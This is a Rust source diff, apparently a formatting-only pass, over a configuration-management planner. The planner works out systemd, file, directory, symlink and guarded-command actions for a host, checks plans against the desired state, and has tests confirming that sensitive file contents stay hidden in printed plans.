@@ -37,13 +37,20 @@ impl Cx<'_> {
     }
 
     fn conflict(&self, id: &ResourceId, reason: String) -> EngineError {
-        EngineError::Conflict { host: self.host.to_string(), resource: id.to_string(), reason }
+        EngineError::Conflict {
+            host: self.host.to_string(),
+            resource: id.to_string(),
+            reason,
+        }
     }
 }
 
 /// Plan one host's resources (of one step) against its observation.
 pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, EngineError> {
-    let cx = Cx { host: &state.host, obs };
+    let cx = Cx {
+        host: &state.host,
+        obs,
+    };
     let mut actions: Vec<Action> = Vec::new();
     let mut unchanged = 0;
     for r in &state.resources {
@@ -57,7 +64,10 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
     let changed_units: Vec<&ResolvedResource> = state
         .resources
         .iter()
-        .filter(|r| matches!(r.resource.spec, Spec::Unit { .. }) && actions.iter().any(|a| a.resource == r.id))
+        .filter(|r| {
+            matches!(r.resource.spec, Spec::Unit { .. })
+                && actions.iter().any(|a| a.resource == r.id)
+        })
         .collect();
     let stale_units: Vec<String> = state
         .resources
@@ -75,14 +85,21 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
             let names: Vec<String> = changed_units.iter().map(|r| r.id.to_string()).collect();
             format!("{} changed", names.join(", "))
         } else {
-            format!("systemd reports unit files changed on disk since its last reload: {}", stale_units.join(", "))
+            format!(
+                "systemd reports unit files changed on disk since its last reload: {}",
+                stale_units.join(", ")
+            )
         };
         let keys: Vec<String> = stale_units.iter().map(|u| format!("S:{u}")).collect();
         let at = actions
             .iter()
             .rposition(|a| changed_units.iter().any(|u| u.id == a.resource))
             .map(|i| i + 1)
-            .or_else(|| actions.iter().position(|a| a.resource.as_str().starts_with("service:")))
+            .or_else(|| {
+                actions
+                    .iter()
+                    .position(|a| a.resource.as_str().starts_with("service:"))
+            })
             .unwrap_or(actions.len());
         actions.insert(
             at,
@@ -105,7 +122,9 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
     if let Some(reload_at) = actions.iter().position(|a| a.kind == ActionKind::Reload) {
         for a in &mut actions[reload_at + 1..] {
             for op in &mut a.ops {
-                if let Op::Systemctl { verb, no_reload, .. } = op
+                if let Op::Systemctl {
+                    verb, no_reload, ..
+                } = op
                     && (verb == "enable" || verb == "disable")
                 {
                     *no_reload = true;
@@ -117,7 +136,9 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
     // Restarts: once per notified service, at the end.
     let mut restarts = Vec::new();
     for r in &state.resources {
-        let Spec::Service { unit, running, .. } = &r.resource.spec else { continue };
+        let Spec::Service { unit, running, .. } = &r.resource.spec else {
+            continue;
+        };
         if *running == Some(false) {
             continue;
         }
@@ -127,7 +148,10 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
             .filter(|n| {
                 let notifies = n.resource.notify.contains(&r.id)
                     || matches!(&n.resource.spec, Spec::Unit { name, .. } if name == unit);
-                notifies && actions.iter().any(|a| a.resource == n.id && a.kind != ActionKind::Run)
+                notifies
+                    && actions
+                        .iter()
+                        .any(|a| a.resource == n.id && a.kind != ActionKind::Run)
             })
             .map(|n| n.id.to_string())
             .collect();
@@ -136,7 +160,10 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
             state
                 .resources
                 .iter()
-                .filter(|n| matches!(n.resource.spec, Spec::Command { .. }) && n.resource.notify.contains(&r.id))
+                .filter(|n| {
+                    matches!(n.resource.spec, Spec::Command { .. })
+                        && n.resource.notify.contains(&r.id)
+                })
                 .filter(|n| actions.iter().any(|a| a.resource == n.id))
                 .map(|n| n.id.to_string()),
         );
@@ -145,7 +172,10 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
         }
         let observed = obs.units.get(unit).cloned().unwrap_or_default();
         let started_now = actions.iter().any(|a| {
-            a.resource == r.id && a.ops.iter().any(|o| matches!(o, Op::Systemctl { verb, .. } if verb == "start"))
+            a.resource == r.id
+                && a.ops
+                    .iter()
+                    .any(|o| matches!(o, Op::Systemctl { verb, .. } if verb == "start"))
         });
         if started_now || !observed.is_running() {
             continue;
@@ -159,7 +189,11 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
             diff: None,
             sensitive: false,
             observed: obs.resource_fingerprint(&[format!("S:{unit}")]),
-            ops: vec![Op::Systemctl { verb: "restart".into(), unit: unit.clone(), no_reload: false }],
+            ops: vec![Op::Systemctl {
+                verb: "restart".into(),
+                unit: unit.clone(),
+                no_reload: false,
+            }],
         });
     }
     actions.extend(restarts);
@@ -172,24 +206,51 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
     })
 }
 
-fn action(id: &ResourceId, kind: ActionKind, reason: impl Into<String>, observed: String, ops: Vec<Op>) -> Option<Action> {
-    Some(Action { resource: id.clone(), kind, reason: reason.into(), diff: None, sensitive: false, observed, ops })
+fn action(
+    id: &ResourceId,
+    kind: ActionKind,
+    reason: impl Into<String>,
+    observed: String,
+    ops: Vec<Op>,
+) -> Option<Action> {
+    Some(Action {
+        resource: id.clone(),
+        kind,
+        reason: reason.into(),
+        diff: None,
+        sensitive: false,
+        observed,
+        ops,
+    })
 }
 
 /// chmod/chown ops and their reasons for an existing path.
-fn attr_changes(path: &str, want: &Attrs, mode: u32, owner: &str, group: &str) -> (Vec<Op>, Vec<String>) {
+fn attr_changes(
+    path: &str,
+    want: &Attrs,
+    mode: u32,
+    owner: &str,
+    group: &str,
+) -> (Vec<Op>, Vec<String>) {
     let mut ops = Vec::new();
     let mut why = Vec::new();
     if let Some(m) = want.mode
         && m != mode
     {
-        ops.push(Op::Chmod { path: path.into(), mode: octal(m) });
+        ops.push(Op::Chmod {
+            path: path.into(),
+            mode: octal(m),
+        });
         why.push(format!("mode {} → {}", octal(mode), octal(m)));
     }
     let o = want.owner.as_deref().filter(|o| *o != owner);
     let g = want.group.as_deref().filter(|g| *g != group);
     if o.is_some() || g.is_some() {
-        ops.push(Op::Chown { path: path.into(), owner: o.map(str::to_string), group: g.map(str::to_string) });
+        ops.push(Op::Chown {
+            path: path.into(),
+            owner: o.map(str::to_string),
+            group: g.map(str::to_string),
+        });
         if let Some(o) = o {
             why.push(format!("owner {owner} → {o}"));
         }
@@ -209,7 +270,11 @@ fn plan_resource(cx: &Cx<'_>, r: &ResolvedResource) -> Result<Option<Action>, En
         cx.obs.resource_fingerprint(&keys)
     };
     match &r.resource.spec {
-        Spec::Directory { path, attrs, ensure } => {
+        Spec::Directory {
+            path,
+            attrs,
+            ensure,
+        } => {
             let fp = observed(&[]);
             Ok(match (ensure, cx.path(path)?) {
                 (Ensure::Present, PathState::Absent) => action(
@@ -226,42 +291,94 @@ fn plan_resource(cx: &Cx<'_>, r: &ResolvedResource) -> Result<Option<Action>, En
                 ),
                 (Ensure::Present, PathState::Dir { mode, owner, group }) => {
                     let (ops, why) = attr_changes(path, attrs, *mode, owner, group);
-                    if ops.is_empty() { None } else { action(id, ActionKind::Update, why.join("; "), fp, ops) }
+                    if ops.is_empty() {
+                        None
+                    } else {
+                        action(id, ActionKind::Update, why.join("; "), fp, ops)
+                    }
                 }
                 (Ensure::Present, other) => {
-                    return Err(cx.conflict(id, format!("{} is in the way; remove it or change the resource", describe(other))));
+                    return Err(cx.conflict(
+                        id,
+                        format!(
+                            "{} is in the way; remove it or change the resource",
+                            describe(other)
+                        ),
+                    ));
                 }
                 (Ensure::Absent, PathState::Absent) => None,
                 (Ensure::Absent, PathState::Other) => {
-                    return Err(cx.conflict(id, "a special file (socket, device, fifo) is there; not removed".into()));
+                    return Err(cx.conflict(
+                        id,
+                        "a special file (socket, device, fifo) is there; not removed".into(),
+                    ));
                 }
                 (Ensure::Absent, st) => action(
                     id,
                     ActionKind::Delete,
                     format!("{} exists", describe(st)),
                     fp,
-                    vec![Op::Remove { path: path.clone(), recursive: matches!(st, PathState::Dir { .. }) }],
+                    vec![Op::Remove {
+                        path: path.clone(),
+                        recursive: matches!(st, PathState::Dir { .. }),
+                    }],
                 ),
             })
         }
-        Spec::File { path, attrs, ensure, .. } => plan_content(cx, r, path, attrs, *ensure, observed(&[])),
-        Spec::Binary { path, attrs, ensure, .. } => plan_content(cx, r, path, attrs, *ensure, observed(&[])),
+        Spec::File {
+            path,
+            attrs,
+            ensure,
+            ..
+        } => plan_content(cx, r, path, attrs, *ensure, observed(&[])),
+        Spec::Binary {
+            path,
+            attrs,
+            ensure,
+            ..
+        } => plan_content(cx, r, path, attrs, *ensure, observed(&[])),
         Spec::Unit { name, ensure, .. } => {
             let path = r.resource.path().expect("units have a path");
-            let attrs = Attrs { owner: None, group: None, mode: Some(0o644) };
-            plan_content(cx, r, &path, &attrs, *ensure, observed(&[format!("S:{name}")]))
+            let attrs = Attrs {
+                owner: None,
+                group: None,
+                mode: Some(0o644),
+            };
+            plan_content(
+                cx,
+                r,
+                &path,
+                &attrs,
+                *ensure,
+                observed(&[format!("S:{name}")]),
+            )
         }
-        Spec::Symlink { path, target, ensure } => {
+        Spec::Symlink {
+            path,
+            target,
+            ensure,
+        } => {
             let fp = observed(&[]);
-            let link = vec![Op::Symlink { path: path.clone(), target: target.clone() }];
+            let link = vec![Op::Symlink {
+                path: path.clone(),
+                target: target.clone(),
+            }];
             Ok(match (ensure, cx.path(path)?) {
-                (Ensure::Present, PathState::Absent) => {
-                    action(id, ActionKind::Create, format!("link to {target} does not exist"), fp, link)
-                }
+                (Ensure::Present, PathState::Absent) => action(
+                    id,
+                    ActionKind::Create,
+                    format!("link to {target} does not exist"),
+                    fp,
+                    link,
+                ),
                 (Ensure::Present, PathState::Link { target: t }) if t == target => None,
-                (Ensure::Present, PathState::Link { target: t }) => {
-                    action(id, ActionKind::Update, format!("points to {t}, wanted {target}"), fp, link)
-                }
+                (Ensure::Present, PathState::Link { target: t }) => action(
+                    id,
+                    ActionKind::Update,
+                    format!("points to {t}, wanted {target}"),
+                    fp,
+                    link,
+                ),
                 (Ensure::Present, PathState::File { .. }) => action(
                     id,
                     ActionKind::Update,
@@ -270,44 +387,84 @@ fn plan_resource(cx: &Cx<'_>, r: &ResolvedResource) -> Result<Option<Action>, En
                     link,
                 ),
                 (Ensure::Present, other) => {
-                    return Err(cx.conflict(id, format!("{} is in the way; remove it or change the resource", describe(other))));
+                    return Err(cx.conflict(
+                        id,
+                        format!(
+                            "{} is in the way; remove it or change the resource",
+                            describe(other)
+                        ),
+                    ));
                 }
                 (Ensure::Absent, PathState::Link { target: t }) => action(
                     id,
                     ActionKind::Delete,
                     format!("link to {t} exists"),
                     fp,
-                    vec![Op::Remove { path: path.clone(), recursive: false }],
+                    vec![Op::Remove {
+                        path: path.clone(),
+                        recursive: false,
+                    }],
                 ),
                 (Ensure::Absent, _) => None,
             })
         }
-        Spec::Service { unit, enabled, running } => {
+        Spec::Service {
+            unit,
+            enabled,
+            running,
+        } => {
             let st = cx.obs.units.get(unit).cloned().unwrap_or_default();
             if st.load_state == "masked" || st.unit_file_state == "masked" {
-                return Err(cx.conflict(id, format!("the unit is masked; unmask it with `systemctl unmask {unit}`")));
+                return Err(cx.conflict(
+                    id,
+                    format!("the unit is masked; unmask it with `systemctl unmask {unit}`"),
+                ));
             }
             let mut ops = Vec::new();
             let mut why = Vec::new();
-            let shown = |s: &str| if s.is_empty() { "not installed".to_string() } else { s.to_string() };
+            let shown = |s: &str| {
+                if s.is_empty() {
+                    "not installed".to_string()
+                } else {
+                    s.to_string()
+                }
+            };
             match enabled {
                 Some(true) if !st.is_enabled() => {
-                    ops.push(Op::Systemctl { verb: "enable".into(), unit: unit.clone(), no_reload: false });
+                    ops.push(Op::Systemctl {
+                        verb: "enable".into(),
+                        unit: unit.clone(),
+                        no_reload: false,
+                    });
                     why.push(format!("enable ({} → enabled)", shown(&st.unit_file_state)));
                 }
-                Some(false) if matches!(st.unit_file_state.as_str(), "enabled" | "enabled-runtime") => {
-                    ops.push(Op::Systemctl { verb: "disable".into(), unit: unit.clone(), no_reload: false });
+                Some(false)
+                    if matches!(st.unit_file_state.as_str(), "enabled" | "enabled-runtime") =>
+                {
+                    ops.push(Op::Systemctl {
+                        verb: "disable".into(),
+                        unit: unit.clone(),
+                        no_reload: false,
+                    });
                     why.push(format!("disable ({} → disabled)", st.unit_file_state));
                 }
                 _ => {}
             }
             match running {
                 Some(true) if !st.is_running() => {
-                    ops.push(Op::Systemctl { verb: "start".into(), unit: unit.clone(), no_reload: false });
+                    ops.push(Op::Systemctl {
+                        verb: "start".into(),
+                        unit: unit.clone(),
+                        no_reload: false,
+                    });
                     why.push(format!("start ({} → active)", shown(&st.active_state)));
                 }
                 Some(false) if st.is_running() => {
-                    ops.push(Op::Systemctl { verb: "stop".into(), unit: unit.clone(), no_reload: false });
+                    ops.push(Op::Systemctl {
+                        verb: "stop".into(),
+                        unit: unit.clone(),
+                        no_reload: false,
+                    });
                     why.push(format!("stop ({} → inactive)", st.active_state));
                 }
                 _ => {}
@@ -320,13 +477,27 @@ fn plan_resource(cx: &Cx<'_>, r: &ResolvedResource) -> Result<Option<Action>, En
             } else {
                 ActionKind::Update
             };
-            Ok(action(id, kind, why.join("; "), cx.obs.resource_fingerprint(&[format!("S:{unit}")]), ops))
+            Ok(action(
+                id,
+                kind,
+                why.join("; "),
+                cx.obs.resource_fingerprint(&[format!("S:{unit}")]),
+                ops,
+            ))
         }
-        Spec::Command { name, command, guard } => {
-            let g = cx.obs.guards.get(name).ok_or_else(|| EngineError::Observe {
-                host: cx.host.to_string(),
-                reason: format!("the host did not report the guard of command {name}"),
-            })?;
+        Spec::Command {
+            name,
+            command,
+            guard,
+        } => {
+            let g = cx
+                .obs
+                .guards
+                .get(name)
+                .ok_or_else(|| EngineError::Observe {
+                    host: cx.host.to_string(),
+                    reason: format!("the host did not report the guard of command {name}"),
+                })?;
             if !g.should_run {
                 return Ok(None);
             }
@@ -339,7 +510,9 @@ fn plan_resource(cx: &Cx<'_>, r: &ResolvedResource) -> Result<Option<Action>, En
                 ActionKind::Run,
                 reason,
                 cx.obs.resource_fingerprint(&[format!("G:{name}")]),
-                vec![Op::Run { command: command.clone() }],
+                vec![Op::Run {
+                    command: command.clone(),
+                }],
             ))
         }
     }
@@ -364,14 +537,24 @@ fn plan_content(
                 ActionKind::Delete,
                 format!("{} exists", describe(state)),
                 fp,
-                vec![Op::Remove { path: path.into(), recursive: false }],
+                vec![Op::Remove {
+                    path: path.into(),
+                    recursive: false,
+                }],
             ),
-            other => return Err(cx.conflict(id, format!("{} is there; not removed", describe(other)))),
+            other => {
+                return Err(cx.conflict(id, format!("{} is there; not removed", describe(other))));
+            }
         });
     }
-    let body: &Resolved = r.body.as_ref().expect("present content resources are resolved");
+    let body: &Resolved = r
+        .body
+        .as_ref()
+        .expect("present content resources are resolved");
     let diffable = r.diffable();
-    let sensitive = matches!(r.resource.spec, Spec::File { .. } | Spec::Unit { .. }) && !diffable && body.text().is_some();
+    let sensitive = matches!(r.resource.spec, Spec::File { .. } | Spec::Unit { .. })
+        && !diffable
+        && body.text().is_some();
     let write = |mode: u32, owner: Option<String>, group: Option<String>| Op::Write {
         path: path.into(),
         sha256: body.sha256.clone(),
@@ -384,10 +567,20 @@ fn plan_content(
         PathState::Absent => (
             ActionKind::Create,
             "does not exist".into(),
-            write(attrs.mode.unwrap_or(0o644), attrs.owner.clone(), attrs.group.clone()),
+            write(
+                attrs.mode.unwrap_or(0o644),
+                attrs.owner.clone(),
+                attrs.group.clone(),
+            ),
             Some(&[]),
         ),
-        PathState::File { mode, owner, group, size, sha256 } => {
+        PathState::File {
+            mode,
+            owner,
+            group,
+            size,
+            sha256,
+        } => {
             if *sha256 == body.sha256 {
                 let (ops, why) = attr_changes(path, attrs, *mode, owner, group);
                 if ops.is_empty() {
@@ -410,17 +603,42 @@ fn plan_content(
                 Some(attrs.owner.clone().unwrap_or_else(|| owner.clone())),
                 Some(attrs.group.clone().unwrap_or_else(|| group.clone())),
             );
-            (ActionKind::Update, reason, op, cx.obs.contents.get(path).map(Vec::as_slice))
+            (
+                ActionKind::Update,
+                reason,
+                op,
+                cx.obs.contents.get(path).map(Vec::as_slice),
+            )
         }
         PathState::Link { target } => (
             ActionKind::Update,
             format!("a symlink to {target} is there; it is replaced by the file"),
-            write(attrs.mode.unwrap_or(0o644), attrs.owner.clone(), attrs.group.clone()),
+            write(
+                attrs.mode.unwrap_or(0o644),
+                attrs.owner.clone(),
+                attrs.group.clone(),
+            ),
             None,
         ),
-        other => return Err(cx.conflict(id, format!("{} is in the way; remove it or change the resource", describe(other)))),
+        other => {
+            return Err(cx.conflict(
+                id,
+                format!(
+                    "{} is in the way; remove it or change the resource",
+                    describe(other)
+                ),
+            ));
+        }
     };
-    let mut a = Action { resource: id.clone(), kind, reason: String::new(), diff: None, sensitive, observed: fp, ops: vec![op] };
+    let mut a = Action {
+        resource: id.clone(),
+        kind,
+        reason: String::new(),
+        diff: None,
+        sensitive,
+        observed: fp,
+        ops: vec![op],
+    };
     if diffable {
         match (old, body.text()) {
             (Some(old), Some(new)) => {
@@ -429,8 +647,14 @@ fn plan_content(
                     reason.push_str(" (the host's content is not text; no diff)");
                 }
             }
-            (None, _) if kind == ActionKind::Update && matches!(state, PathState::File { size, .. } if *size > MAX_DIFF_BYTES) => {
-                reason.push_str(&format!(" (over {} KiB on the host; no diff)", MAX_DIFF_BYTES / 1024));
+            (None, _)
+                if kind == ActionKind::Update
+                    && matches!(state, PathState::File { size, .. } if *size > MAX_DIFF_BYTES) =>
+            {
+                reason.push_str(&format!(
+                    " (over {} KiB on the host; no diff)",
+                    MAX_DIFF_BYTES / 1024
+                ));
             }
             _ => {}
         }
@@ -456,18 +680,29 @@ fn describe(st: &PathState) -> String {
 /// input: this keeps a stale or edited one from doing anything the desired
 /// state does not allow.
 pub(crate) fn check_against(plan: &HostPlan, states: &[&ResolvedState]) -> Result<(), EngineError> {
-    let by_id: HashMap<&ResourceId, &ResolvedResource> =
-        states.iter().flat_map(|s| s.resources.iter()).map(|r| (&r.id, r)).collect();
-    let mismatch = |reason: String| EngineError::PlanMismatch { host: plan.host.clone(), reason };
+    let by_id: HashMap<&ResourceId, &ResolvedResource> = states
+        .iter()
+        .flat_map(|s| s.resources.iter())
+        .map(|r| (&r.id, r))
+        .collect();
+    let mismatch = |reason: String| EngineError::PlanMismatch {
+        host: plan.host.clone(),
+        reason,
+    };
     for a in &plan.actions {
         if a.resource.as_str() == DAEMON_RELOAD_ID {
             if a.ops != [Op::DaemonReload {}] {
-                return Err(mismatch(format!("{DAEMON_RELOAD_ID} may only reload systemd")));
+                return Err(mismatch(format!(
+                    "{DAEMON_RELOAD_ID} may only reload systemd"
+                )));
             }
             continue;
         }
         let Some(r) = by_id.get(&a.resource) else {
-            return Err(mismatch(format!("{} is no longer in the desired state", a.resource)));
+            return Err(mismatch(format!(
+                "{} is no longer in the desired state",
+                a.resource
+            )));
         };
         for op in &a.ops {
             check_op(r, op).map_err(|why| mismatch(format!("{}: {why}", a.resource)))?;
@@ -481,36 +716,74 @@ fn valid_mode(m: &str) -> bool {
 }
 
 fn valid_names(owner: &Option<String>, group: &Option<String>) -> bool {
-    [owner, group]
-        .into_iter()
-        .flatten()
-        .all(|n| !n.is_empty() && n.len() <= 64 && n.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)))
+    [owner, group].into_iter().flatten().all(|n| {
+        !n.is_empty()
+            && n.len() <= 64
+            && n.bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
+    })
 }
 
 fn check_op(r: &ResolvedResource, op: &Op) -> Result<(), String> {
     let path = r.resource.path();
     let same_path = |p: &str| path.as_deref() == Some(p);
     let ok = match (op, &r.resource.spec) {
-        (Op::Mkdir { path: p, mode, owner, group }, Spec::Directory { .. }) => {
-            same_path(p) && valid_mode(mode) && valid_names(owner, group)
-        }
-        (Op::Write { path: p, sha256, mode, owner, group, .. }, Spec::File { .. } | Spec::Binary { .. } | Spec::Unit { .. }) => {
+        (
+            Op::Mkdir {
+                path: p,
+                mode,
+                owner,
+                group,
+            },
+            Spec::Directory { .. },
+        ) => same_path(p) && valid_mode(mode) && valid_names(owner, group),
+        (
+            Op::Write {
+                path: p,
+                sha256,
+                mode,
+                owner,
+                group,
+                ..
+            },
+            Spec::File { .. } | Spec::Binary { .. } | Spec::Unit { .. },
+        ) => {
             if r.body.as_ref().map(|b| &b.sha256) != Some(sha256) {
                 return Err("its content changed since the plan was made".into());
             }
             same_path(p) && valid_mode(mode) && valid_names(owner, group)
         }
         (Op::Chmod { path: p, mode }, _) => same_path(p) && valid_mode(mode),
-        (Op::Chown { path: p, owner, group }, _) => same_path(p) && valid_names(owner, group),
-        (Op::Symlink { path: p, target: t }, Spec::Symlink { target, .. }) => same_path(p) && t == target,
+        (
+            Op::Chown {
+                path: p,
+                owner,
+                group,
+            },
+            _,
+        ) => same_path(p) && valid_names(owner, group),
+        (Op::Symlink { path: p, target: t }, Spec::Symlink { target, .. }) => {
+            same_path(p) && t == target
+        }
         (Op::Remove { path: p, .. }, spec) => {
             let absent = matches!(
                 spec,
-                Spec::Directory { ensure: Ensure::Absent, .. }
-                    | Spec::File { ensure: Ensure::Absent, .. }
-                    | Spec::Binary { ensure: Ensure::Absent, .. }
-                    | Spec::Symlink { ensure: Ensure::Absent, .. }
-                    | Spec::Unit { ensure: Ensure::Absent, .. }
+                Spec::Directory {
+                    ensure: Ensure::Absent,
+                    ..
+                } | Spec::File {
+                    ensure: Ensure::Absent,
+                    ..
+                } | Spec::Binary {
+                    ensure: Ensure::Absent,
+                    ..
+                } | Spec::Symlink {
+                    ensure: Ensure::Absent,
+                    ..
+                } | Spec::Unit {
+                    ensure: Ensure::Absent,
+                    ..
+                }
             );
             same_path(p) && absent
         }
@@ -520,7 +793,13 @@ fn check_op(r: &ResolvedResource, op: &Op) -> Result<(), String> {
         (Op::Run { command: c }, Spec::Command { command, .. }) => c == command,
         _ => false,
     };
-    if ok { Ok(()) } else { Err(format!("the plan's op {op:?} is not one the desired state allows")) }
+    if ok {
+        Ok(())
+    } else {
+        Err(format!(
+            "the plan's op {op:?} is not one the desired state allows"
+        ))
+    }
 }
 
 #[cfg(test)]
@@ -540,7 +819,10 @@ mod tests {
     fn desired(conf: &str) -> DesiredState {
         DesiredState::new("cp-1")
             .with(Resource::directory("/etc/demo"))
-            .with(Resource::file("/etc/demo/demo.conf", Content::text(conf)).notify("service:demo.service"))
+            .with(
+                Resource::file("/etc/demo/demo.conf", Content::text(conf))
+                    .notify("service:demo.service"),
+            )
             .with(Resource::file("/etc/demo/secret", Content::text("token=hunter2\n")).mode(0o600))
             .with(Resource::unit("demo.service", Content::text(UNIT)))
             .with(Resource::service("demo.service"))
@@ -551,7 +833,9 @@ mod tests {
     }
 
     fn unit_block(load: &str, active: &str, file: &str) -> String {
-        format!("S\tLoadState={load}\nS\tActiveState={active}\nS\tUnitFileState={file}\nS\tNeedDaemonReload=no\nS\t\n")
+        format!(
+            "S\tLoadState={load}\nS\tActiveState={active}\nS\tUnitFileState={file}\nS\tNeedDaemonReload=no\nS\t\n"
+        )
     }
 
     async fn plan_of(d: &DesiredState, observed: &str) -> Result<HostPlan, EngineError> {
@@ -561,7 +845,10 @@ mod tests {
     }
 
     fn ops_of(p: &HostPlan) -> Vec<(String, ActionKind)> {
-        p.actions.iter().map(|a| (a.resource.to_string(), a.kind)).collect()
+        p.actions
+            .iter()
+            .map(|a| (a.resource.to_string(), a.kind))
+            .collect()
     }
 
     #[tokio::test]
@@ -604,14 +891,34 @@ mod tests {
             svc.ops,
             vec![
                 // After this run's daemon-reload, enable does not reload again.
-                Op::Systemctl { verb: "enable".into(), unit: "demo.service".into(), no_reload: true },
-                Op::Systemctl { verb: "start".into(), unit: "demo.service".into(), no_reload: false }
+                Op::Systemctl {
+                    verb: "enable".into(),
+                    unit: "demo.service".into(),
+                    no_reload: true
+                },
+                Op::Systemctl {
+                    verb: "start".into(),
+                    unit: "demo.service".into(),
+                    no_reload: false
+                }
             ]
         );
-        let text = render(&Plan::new(vec![crate::plan::StepPlan { name: "s".into(), hosts: vec![p] }]), &PrintOptions::default());
-        assert!(!text.contains("hunter2"), "secrets are never printed:\n{text}");
+        let text = render(
+            &Plan::new(vec![crate::plan::StepPlan {
+                name: "s".into(),
+                hosts: vec![p],
+            }]),
+            &PrintOptions::default(),
+        );
+        assert!(
+            !text.contains("hunter2"),
+            "secrets are never printed:\n{text}"
+        );
         assert!(text.contains("(sensitive content hidden)"), "{text}");
-        assert!(text.ends_with("Plan: 5 to create, 0 to update, 0 to delete, 0 restarts, 1 reload.\n"), "{text}");
+        assert!(
+            text.ends_with("Plan: 5 to create, 0 to update, 0 to delete, 0 restarts, 1 reload.\n"),
+            "{text}"
+        );
     }
 
     #[tokio::test]
@@ -629,7 +936,9 @@ mod tests {
             sha(UNIT),
             unit_block("loaded", "active", "enabled")
         );
-        let p = plan_of(&desired("port=8080\nlog=info\n"), &observed).await.unwrap();
+        let p = plan_of(&desired("port=8080\nlog=info\n"), &observed)
+            .await
+            .unwrap();
         assert_eq!(
             ops_of(&p),
             vec![
@@ -640,7 +949,14 @@ mod tests {
         assert_eq!(p.unchanged, 4);
         let a = &p.actions[0];
         assert_eq!(a.reason, "content changed");
-        assert!(a.diff.as_deref().unwrap().contains("-port=80\n+port=8080\n log=info\n"), "{:?}", a.diff);
+        assert!(
+            a.diff
+                .as_deref()
+                .unwrap()
+                .contains("-port=80\n+port=8080\n log=info\n"),
+            "{:?}",
+            a.diff
+        );
         // Mode and owner the resource does not set are kept as they are on the host.
         assert!(matches!(&a.ops[0], Op::Write { mode, owner, group, .. }
             if mode == "640" && owner.as_deref() == Some("demo") && group.as_deref() == Some("adm")));
@@ -649,16 +965,30 @@ mod tests {
 
     #[tokio::test]
     async fn attributes_alone_are_fixed_without_rewriting() {
-        let d = DesiredState::new("cp-1").with(Resource::file("/etc/x", Content::text("x\n")).mode(0o644).owner("root"));
-        let observed = format!("L\t-\nV\t1\nP\t/etc/x\tfile\t600\tnobody\troot\t2\t{}\n", sha("x\n"));
+        let d = DesiredState::new("cp-1").with(
+            Resource::file("/etc/x", Content::text("x\n"))
+                .mode(0o644)
+                .owner("root"),
+        );
+        let observed = format!(
+            "L\t-\nV\t1\nP\t/etc/x\tfile\t600\tnobody\troot\t2\t{}\n",
+            sha("x\n")
+        );
         let p = plan_of(&d, &observed).await.unwrap();
         assert_eq!(p.actions.len(), 1);
         assert_eq!(p.actions[0].reason, "mode 600 → 644; owner nobody → root");
         assert_eq!(
             p.actions[0].ops,
             vec![
-                Op::Chmod { path: "/etc/x".into(), mode: "644".into() },
-                Op::Chown { path: "/etc/x".into(), owner: Some("root".into()), group: None }
+                Op::Chmod {
+                    path: "/etc/x".into(),
+                    mode: "644".into()
+                },
+                Op::Chown {
+                    path: "/etc/x".into(),
+                    owner: Some("root".into()),
+                    group: None
+                }
             ]
         );
     }
@@ -666,16 +996,35 @@ mod tests {
     #[tokio::test]
     async fn what_is_in_the_way_is_a_conflict_naming_host_and_resource() {
         let d = DesiredState::new("cp-1").with(Resource::directory("/etc/demo"));
-        let err = plan_of(&d, "L\t-\nV\t1\nP\t/etc/demo\tfile\t644\troot\troot\t1\tabc\n").await.unwrap_err().to_string();
-        assert_eq!(err, "cp-1: dir:/etc/demo: a regular file is in the way; remove it or change the resource");
+        let err = plan_of(
+            &d,
+            "L\t-\nV\t1\nP\t/etc/demo\tfile\t644\troot\troot\t1\tabc\n",
+        )
+        .await
+        .unwrap_err()
+        .to_string();
+        assert_eq!(
+            err,
+            "cp-1: dir:/etc/demo: a regular file is in the way; remove it or change the resource"
+        );
     }
 
     #[tokio::test]
     async fn guards_decide_whether_commands_run() {
         let d = DesiredState::new("cp-1")
-            .with(Resource::command("init", "kubeadm init", crate::Guard::Creates("/etc/kubernetes/admin.conf".into())))
-            .with(Resource::command("check", "touch /x", crate::Guard::Unless("test -f /x".into())));
-        let p = plan_of(&d, "L\t-\nV\t1\nG\tinit\tskip\t0\nG\tcheck\trun\t1\n").await.unwrap();
+            .with(Resource::command(
+                "init",
+                "kubeadm init",
+                crate::Guard::Creates("/etc/kubernetes/admin.conf".into()),
+            ))
+            .with(Resource::command(
+                "check",
+                "touch /x",
+                crate::Guard::Unless("test -f /x".into()),
+            ));
+        let p = plan_of(&d, "L\t-\nV\t1\nG\tinit\tskip\t0\nG\tcheck\trun\t1\n")
+            .await
+            .unwrap();
         assert_eq!(ops_of(&p), vec![("command:check".into(), ActionKind::Run)]);
         assert_eq!(p.actions[0].reason, "check `test -f /x` failed (exit 1)");
     }
@@ -687,16 +1036,54 @@ mod tests {
             .with(Resource::directory("/b").depends_on("dir:/a"));
         let e = cycle.resolve().await.unwrap_err().to_string();
         assert!(e.contains("dependency cycle among dir:/a, dir:/b"), "{e}");
-        let unknown = DesiredState::new("h").with(Resource::directory("/a").notify("service:x.service"));
-        assert!(unknown.resolve().await.unwrap_err().to_string().contains("not declared"));
-        let twice = DesiredState::new("h").with(Resource::directory("/a")).with(Resource::directory("/a"));
-        assert!(twice.resolve().await.unwrap_err().to_string().contains("declared twice"));
+        let unknown =
+            DesiredState::new("h").with(Resource::directory("/a").notify("service:x.service"));
+        assert!(
+            unknown
+                .resolve()
+                .await
+                .unwrap_err()
+                .to_string()
+                .contains("not declared")
+        );
+        let twice = DesiredState::new("h")
+            .with(Resource::directory("/a"))
+            .with(Resource::directory("/a"));
+        assert!(
+            twice
+                .resolve()
+                .await
+                .unwrap_err()
+                .to_string()
+                .contains("declared twice")
+        );
